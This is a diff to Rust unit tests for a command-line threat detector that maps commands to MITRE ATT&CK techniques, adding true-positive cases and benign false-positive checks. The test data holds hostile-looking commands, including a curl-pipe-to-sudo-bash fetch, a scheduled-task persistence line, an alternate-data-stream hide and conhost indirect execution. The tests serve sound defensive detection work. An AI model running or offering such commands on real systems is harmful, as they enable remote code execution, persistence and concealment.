@@ -12,6 +12,31 @@ fn behaviour_is_recognised_with_its_technique() {
     let s = Signatures::new();
     let cases: &[(&str, &str, &str)] = &[
         (
+            r#""C:\Users\alice\Downloads\invoice_update.exe""#,
+            "user-folder-execution",
+            "T1204.002",
+        ),
+        (
+            r"cmd /c start C:\Users\Public\svc.exe",
+            "user-folder-execution",
+            "T1204.002",
+        ),
+        (
+            r"C:\Users\bob\AppData\Local\Temp\7zS1\setup.scr /s",
+            "user-folder-execution",
+            "T1204.002",
+        ),
+        (
+            r"schtasks /create /tn u /tr %TEMP%\u.exe /sc onlogon",
+            "user-folder-execution",
+            "T1204.002",
+        ),
+        (
+            r"C:\ProgramData\updater.exe -k",
+            "user-folder-execution",
+            "T1204.002",
+        ),
+        (
             "curl -fsSL http://x.sh | sudo bash",
             "download-pipe-shell",
             "T1105",
@@ -374,6 +399,11 @@ fn plain_administration_stays_quiet_or_light() {
         "gcc -O2 -o hello hello.c",
         "ls -l ~/Library/LaunchAgents/",
         "passwd",
+        r#""C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" /dde"#,
+        r"C:\Users\bob\AppData\Local\Microsoft\Teams\current\Teams.exe --processStart",
+        r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2\MsMpEng.exe",
+        r"dir C:\Users\Public\Documents",
+        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
     ] {
         let hits = s.scan([text]);
         assert!(combined_weight(&hits) < 0.2, "{text}: {:?}", ids(&hits));
@@ -487,9 +517,27 @@ fn a_remote_path_is_not_a_hidden_stream() {
         "scp report.txt alice@files.example.com:backup/report.txt",
         "curl http://files.example.com:8080/a.txt",
         "Copy-Item C:\\data\\a.txt D:\\backup\\a.txt",
+        // A program's own `-switch:value.dll` is no stream.
+        r"C:\Windows\system32\CompatTelRunner.exe -m:appraiser.dll -f:UpdateAvStatus",
     ] {
         let hits = s.scan([text]);
         assert!(!ids(&hits).contains(&"hidden-artifact"), "{text}");
+    }
+    let hits = s.scan([r"type evil.exe > C:\temp:evil.exe"]);
+    assert!(ids(&hits).contains(&"hidden-artifact"));
+}
+
+#[test]
+fn a_console_host_runs_what_it_is_given_not_its_window_handle() {
+    let s = Signatures::new();
+    // What Windows logs for every console window.
+    let hits = s.scan([r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"]);
+    assert!(!ids(&hits).contains(&"indirect-execution"));
+    for text in ["conhost.exe calc.exe", "conhost --headless cmd /c whoami"] {
+        assert!(
+            ids(&s.scan([text])).contains(&"indirect-execution"),
+            "{text}"
+        );
     }
 }
 
